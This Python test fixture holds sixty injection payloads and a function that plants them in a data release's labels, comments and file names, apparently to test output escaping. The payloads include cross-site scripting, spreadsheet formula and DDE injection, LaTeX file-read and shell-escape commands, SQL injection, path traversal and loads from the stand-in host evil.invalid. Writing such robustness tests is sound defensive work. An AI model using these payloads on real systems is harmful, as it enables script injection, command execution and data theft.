"""Sixty texts that want to be more than text, and releases that hold them where data can put them."""

from dataclasses import replace

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "</script><script>window.pwned=1</script>",
    "<a href='javascript:window.pwned=1'>go</a>",
    "$\\href{javascript:window.pwned=1}{x}$",
    '=HYPERLINK("http://evil.invalid","x")',
    "=cmd|' /C calc'!A0",
    "[x](javascript:window.pwned=1)",
    "![x](http://evil.invalid/p.png)",
    "{{ 7*7 }}{% for x in y %}",
    "%{customdata[0]}<extra></extra>",
    "<iframe src=//evil.invalid></iframe>",
    "<body onload=window.pwned=1>",
    "<style>@import '//evil.invalid/x.css'</style>",
    "<link rel=stylesheet href=//evil.invalid/x>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<base href=//evil.invalid>",
    "<form action=//evil.invalid><button>x",
    "<details open ontoggle=window.pwned=1>",
    "<video src=//evil.invalid onerror=window.pwned=1>",
    "<math><mi xlink:href='javascript:window.pwned=1'>x",
    "<object data=//evil.invalid>",
    "<embed src=//evil.invalid>",
    "<svg><use href='//evil.invalid#x'/></svg>",
    "<b onmouseover=window.pwned=1>bold</b>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "\u2028window.pwned=1//",
    "'-window.pwned=1-'",
    '";window.pwned=1;//',
    "`${window.pwned=1}`",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "<!--<img src=x onerror=window.pwned=1>-->",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<plaintext>",
    "<textarea>",
    "\x00<script>window.pwned=1</script>",
    "\u202e<script>window.pwned=1</script>",
    "＝1+1",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "%0A=1+1",
    '=WEBSERVICE("http://evil.invalid")',
    '=IMPORTXML("http://evil.invalid";"x")',
    "http://evil.invalid/",
    "mailto:a@evil.invalid",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "{client.__class__.__init__.__globals__}",
    "../../evil",
    "# %% [markdown]\n!id",
    "' OR 1=1; DROP TABLE x --",
)

A_RELEASE = 2
"""Payloads in one release: as many as its channels and interventions can carry."""

POSITIONS = ("unit", "channel", "intervention", "comment", "file")


def poisoned(release, payloads):
    """Give the release with its units, channels, interventions, comments and file names replaced by payloads."""
    swap = {}
    for position in POSITIONS:
        seen = sorted(
            {
                str(record[position])
                for table in release.tables.values()
                for record in (table.records() if position in {c.name for c in table.spec.columns} else ())
                if record[position] != "all"
            }
        )
        swap |= {
            name: payloads[place % len(payloads)] + " " * (place // len(payloads))
            for place, name in enumerate(seen)
        }
    tables = {}
    for name, table in release.tables.items():
        places = [
            at
            for at, column in enumerate(table.spec.columns)
            if column.name in (*POSITIONS, "team", "scope", "source_unit", "target_unit")
        ]
        rows = tuple(
            tuple(swap.get(str(cell), cell) if at in places else cell for at, cell in enumerate(row))
            for row in table.rows
        )
        tables[name] = replace(table, rows=rows)
    spare = table_rows(tables["comments"], payloads)
    labels = {
        swap.get(key, key): swap.get(label, swap.get(key, label)) for key, label in release.labels.items()
    }
    return replace(
        release, tables={**tables, "comments": spare}, labels=labels, name=f"{payloads[0]} {payloads[-1]}"
    )


def table_rows(table, payloads):
    """Give the table of comments with a comment for each payload."""
    wave = table.rows[0][0]
    return replace(table, rows=tuple((wave, payload) for payload in payloads))
